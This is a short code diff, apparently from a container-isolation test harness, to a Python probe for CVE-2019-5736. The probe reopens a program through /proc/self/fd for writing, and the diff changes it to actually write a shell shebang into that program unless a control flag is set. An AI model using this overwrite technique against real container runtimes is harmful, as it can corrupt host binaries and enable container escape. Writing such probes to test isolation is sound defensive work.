@@ -6,7 +6,9 @@ def reopened(path):
     """CVE-2019-5736: hold a program by a descriptor and open it for writing through that. ETXTBSY counts as let in."""
     def act():
         held = os.open(path, os.O_PATH | os.O_CLOEXEC)
-        os.close(os.open(f"/proc/self/fd/{held}", os.O_WRONLY | os.O_CLOEXEC))
+        writer = os.open(f"/proc/self/fd/{held}", os.O_WRONLY | os.O_CLOEXEC)
+        if not CONTROL:
+            os.write(writer, b"#!/bin/sh\n")
     return act
 
 
